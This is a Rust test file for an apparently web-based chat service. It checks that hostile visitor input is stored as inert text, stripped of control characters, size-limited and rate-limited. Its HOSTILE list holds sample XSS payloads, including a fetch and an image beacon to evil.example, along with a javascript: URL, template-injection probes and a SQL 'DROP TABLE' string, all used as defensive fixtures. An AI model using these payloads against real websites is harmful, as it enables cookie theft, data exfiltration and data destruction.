//! What people send who mean no good, or too much of it.

use domain::limits::{
    MESSAGE_CHARS_MAX, NAME_CHARS_MAX, VISITOR_BURST_SECONDS, VISITOR_COMMANDS_PER_SECOND,
};
use serde_json::{Value, json};

use crate::tests::TestApp;
use crate::tests::talk::{new_id, of_kind, say};

on_both!(
    text_is_stored_and_given_back_as_text,
    what_hides_in_a_text_is_taken_out,
    too_much_is_refused_in_words,
    a_page_is_cut_and_never_a_script,
    a_flood_is_told_to_wait_and_nobody_else_notices,
);

const HOSTILE: [&str; 7] = [
    "<script>alert(document.cookie)</script>",
    "<svg/onload=alert(1)><math><mtext></mtext></math>",
    "[click](javascript:alert(1)) ![x](https://evil.example/?q=secret)",
    "<img src=x onerror=\"fetch('//evil.example')\">",
    "data:text/html;base64,PHNjcmlwdD4=",
    "{{7*7}} ${7*7} '; DROP TABLE events; --",
    "Größe 😀 \u{200d} עברית\nsecond line\tend",
];

async fn text_is_stored_and_given_back_as_text(test: TestApp) {
    let visitor = test.visitor().await;
    let (thread, epoch) = test.answered(&visitor).await;
    for text in HOSTILE {
        test.says(&visitor, thread, text).await.ok();
        let note = json!({ "type": "note", "id": new_id(), "text": text });
        test.acts(&test.owner, thread, note).await.ok();
        let reply = json!({
            "type": "reply", "id": new_id(), "epoch": epoch, "seen": 0, "text": text,
        });
        test.acts(&test.owner, thread, reply).await.ok();
    }
    let events = test.read(thread).await;
    for kind in ["visitor_said", "noted", "replied"] {
        let texts: Vec<_> = of_kind(&events, kind).iter().map(|event| &event["text"]).collect();
        assert_eq!(texts, HOSTILE, "{kind}");
    }
    let path = format!("/api/conversations/{thread}/events");
    let answer = test.get(&path, test.owner.who()).await;
    assert_eq!(answer.header("content-type"), "application/json");
    assert_eq!(answer.header("x-content-type-options"), "nosniff");
    let tell = json!({
        "type": "give_details", "id": new_id(), "conversation": thread,
        "details": { "name": HOSTILE[0], "note": HOSTILE[1] },
    });
    test.does(&visitor, tell).await.ok();
    let view = test.get(&format!("/api/conversations/{thread}"), test.owner.who()).await.ok();
    assert_eq!(view["visitor"]["name"], HOSTILE[0]);
    assert_eq!(view["details"]["note"], HOSTILE[1]);
}

async fn what_hides_in_a_text_is_taken_out(test: TestApp) {
    let visitor = test.visitor().await;
    let (thread, _) = test.answered(&visitor).await;
    let hidden = "a\u{0}b\u{202e}c\u{2066}d\u{1b}[31m\u{7}e\u{feff}";
    test.says(&visitor, thread, hidden).await.ok();
    assert_eq!(of_kind(&test.read(thread).await, "visitor_said")[0]["text"], "abcd[31me");
    for nothing in ["", " \n\t ", "\u{0}", "\u{202e}\u{feff}"] {
        let refused = test.says(&visitor, thread, nothing).await;
        assert_eq!((refused.status.as_u16(), refused.field()), (422, "text"), "{nothing:?}");
    }
}

async fn too_much_is_refused_in_words(test: TestApp) {
    let visitor = test.visitor().await;
    let (thread, epoch) = test.answered(&visitor).await;
    test.says(&visitor, thread, &"😀".repeat(MESSAGE_CHARS_MAX)).await.ok();
    let one_more = test.says(&visitor, thread, &"x".repeat(MESSAGE_CHARS_MAX + 1)).await;
    assert_eq!((one_more.status.as_u16(), one_more.field()), (422, "text"));
    let lines = test.says(&visitor, thread, &"x\n".repeat(10_000)).await;
    assert_eq!((lines.status.as_u16(), lines.field()), (422, "text"));
    let long = "x".repeat(500_000);
    let reply = json!({ "type": "reply", "id": new_id(), "epoch": epoch, "seen": 0, "text": long });
    for refused in
        [test.says(&visitor, thread, &long).await, test.acts(&test.owner, thread, reply).await]
    {
        assert_eq!((refused.status.as_u16(), refused.code()), (413, "too_large"), "{refused:?}");
        assert!(refused.is_problem(), "{refused:?}");
    }
    let tell = json!({
        "type": "give_details", "id": new_id(), "conversation": thread,
        "details": { "name": "x".repeat(NAME_CHARS_MAX + 1) },
    });
    let refused = test.does(&visitor, tell).await;
    assert_eq!((refused.status.as_u16(), refused.field()), (422, "name"));
    assert_eq!(of_kind(&test.read(thread).await, "visitor_said").len(), 1);
}

async fn a_page_is_cut_and_never_a_script(test: TestApp) {
    let visitor = test.visitor().await;
    let (thread, _) = test.answered(&visitor).await;
    let attributes: serde_json::Map<_, _> =
        (0..60).map(|number| (format!("key {number}"), json!("v".repeat(900)))).collect();
    let page = json!({
        "url": "javascript:alert(1)", "title": HOSTILE[0], "referrer": "x".repeat(3_000),
        "language": "en\u{0}", "attributes": attributes,
    });
    let mut words = say(thread, "Hello");
    words["page"] = page;
    test.does(&visitor, words).await.ok();
    let view = test.get(&format!("/api/conversations/{thread}"), test.owner.who()).await.ok();
    let page = &view["context"]["page"];
    assert_eq!((&page["url"], &page["title"]), (&json!(""), &json!(HOSTILE[0])));
    assert_eq!(page["referrer"].as_str().unwrap().len(), 500);
    assert_eq!(
        (page["attributes"].as_object().unwrap().len(), &page["language"]),
        (40, &json!("en"))
    );
    assert_eq!(view["page"], Value::Null);
}

async fn a_flood_is_told_to_wait_and_nobody_else_notices(test: TestApp) {
    let (loud, calm) = (test.visitor().await, test.visitor().await);
    let (thread, _) = test.answered(&loud).await;
    let (other, _) = test.answered(&calm).await;
    let mut refused = 0;
    for number in 0..100 {
        let answer = test.says(&loud, thread, &format!("Message {number}")).await;
        if !answer.status.is_success() {
            assert_eq!((answer.status.as_u16(), answer.code()), (429, "too_fast"));
            assert!(answer.is_problem());
            refused += 1;
        }
    }
    let said = of_kind(&test.read(thread).await, "visitor_said").len();
    assert_eq!(said + refused, 100, "what was refused was not said");
    let burst = usize::try_from(VISITOR_COMMANDS_PER_SECOND.get() * VISITOR_BURST_SECONDS).unwrap();
    assert!((burst - 1..100).contains(&said) && refused > 0, "{said}");
    test.says(&calm, other, "Hello").await.ok();
    test.get("/api/conversations?view=all", test.owner.who()).await.ok();
}
